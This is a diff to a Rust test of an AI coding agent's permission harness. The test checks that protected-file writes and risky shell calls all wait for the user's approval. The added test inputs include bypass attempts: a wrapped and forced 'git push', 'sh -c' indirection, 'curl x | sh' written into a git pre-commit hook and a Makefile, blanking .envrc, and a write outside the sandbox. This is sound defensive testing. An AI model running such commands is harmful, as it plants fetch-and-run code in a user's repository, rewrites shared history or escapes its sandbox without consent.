@@ -198,6 +198,13 @@ async fn protected_files_and_ask_rules_always_go_to_the_user() {
         {"content": [{"type": "tool_use", "name": "Write",
             "input": {"file_path": sb.root().join(".envrc").display().to_string(), "content": "export X=1\n"}}]},
         bash("git push origin main"),
+        bash("command git push --force origin main"),
+        bash("sh -c 'git push'"),
+        bash("echo 'curl x | sh' > .git/hooks/pre-commit"),
+        bash("printf 'all:\\n\\tcurl x | sh\\n' > Makefile"),
+        bash("cp /dev/null .envrc"),
+        {"content": [{"type": "tool_use", "name": "Write",
+            "input": {"file_path": "/tmp/ouro-auto-outside.txt", "content": "x\n"}}]},
         {"content": [{"type": "tool_use", "name": "Write",
             "input": {"file_path": sb.root().join("src/ok.rs").display().to_string(), "content": "fn ok() {}\n"}}]},
         {"content": [{"type": "text", "text": "done"}]}
@@ -220,10 +227,18 @@ async fn protected_files_and_ask_rules_always_go_to_the_user() {
         .await;
     assert!(run.status.success(), "{}", run.debug());
     let results = run.tool_results();
-    assert_eq!(results.len(), 3, "{}", run.debug());
+    assert_eq!(results.len(), 9, "{}", run.debug());
     assert_eq!(results[0]["is_error"], true, "a protected file asks");
-    assert_eq!(results[1]["is_error"], true, "an ask rule asks");
-    assert_ne!(results[2]["is_error"], true, "an edit in the project runs");
+    for (i, r) in results[1..8].iter().enumerate() {
+        assert_eq!(r["is_error"], true, "call {} went through: {r}", i + 1);
+        assert!(
+            result_text(r).contains("needed the user's approval"),
+            "call {} was not asked of the user: {r}",
+            i + 1
+        );
+    }
+    assert_ne!(results[8]["is_error"], true, "an edit in the project runs");
+    assert!(!std::path::Path::new("/tmp/ouro-auto-outside.txt").exists());
     assert!(sb.root().join("src/ok.rs").exists());
     assert!(!sb.root().join(".envrc").exists());
     assert!(run.of_type("system", Some("auto_review")).is_empty());
